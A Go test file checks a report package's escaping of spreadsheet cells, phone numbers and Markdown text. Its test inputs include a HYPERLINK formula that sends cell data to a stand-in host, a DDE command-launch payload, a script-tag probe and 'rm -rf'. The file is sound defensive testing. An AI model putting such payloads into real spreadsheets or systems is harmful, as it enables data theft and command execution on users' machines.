package report

import "testing"

func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Nguyễn Văn An", "Nguyễn Văn An"},
		{"=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")"},
		{"=1+1", "'=1+1"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"a=1+1", "a=1+1"},
		{"'=1", "'=1"},
		{"+84912345678", "'+84912345678"},
	} {
		if got := SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestPhoneCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"+84912345678", "0912 345 678"},
		{"+842838234567", "028 3823 4567"},
		{"+12025550123", "+12025550123"}, // SafeCell quotes it
		{"", ""},
		{"+84=1+1", "+84=1+1"},
	} {
		if got := PhoneCell(tc.in); got != tc.want {
			t.Errorf("PhoneCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if c := SafeCell(PhoneCell(tc.in)); c != "" && (c[0] == '+' || c[0] == '=') {
			t.Errorf("phone cell %q would be a formula", c)
		}
	}
}

func TestMarkdownText(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"Plain", "Nguyễn Văn An", "Nguyễn Văn An"},
		{"Heading", "# Kết luận giả mạo", `\# Kết luận giả mạo`},
		{"HeadingOnNextLine", "ý kiến\n## Báo cáo giả\n\n- mục", `ý kiến \#\# Báo cáo giả - mục`},
		{"CRLF", "a\r\nb\rc\u2028d", "a b c d"},
		{"Emphasis", "**đậm** _nghiêng_ ~~gạch~~", `\*\*đậm\*\* \_nghiêng\_ \~\~gạch\~\~`},
		{"Link", "[bấm vào đây](http://x.example)", `\[bấm vào đây\](http://x.example)`},
		{"Image", "![x](http://x.example/a.png)", `\!\[x\](http://x.example/a.png)`},
		{"Table", "| a | b |\n|---|---|", `\| a \| b \| \|---\|---\|`},
		{"HTML", "<script>alert(1)</script>", `\<script\>alert(1)\</script\>`},
		{"Entity", "&lt;b&gt;", `\&lt;b\&gt;`},
		{"Code", "`rm -rf`", "\\`rm -rf\\`"},
		{"Backslash", `a\*b`, `a\\\*b`},
		{"ListDash", "- giả", `\- giả`},
		{"ListPlus", "+ giả", `\+ giả`},
		{"OrderedList", "1. giả", `1\. giả`},
		{"OrderedParen", "12) giả", `12\) giả`},
		{"Quote", "> trích", `\> trích`},
		{"Number", "2024 tốt", "2024 tốt"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := md(tc.in); got != tc.want {
				t.Errorf("md(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}
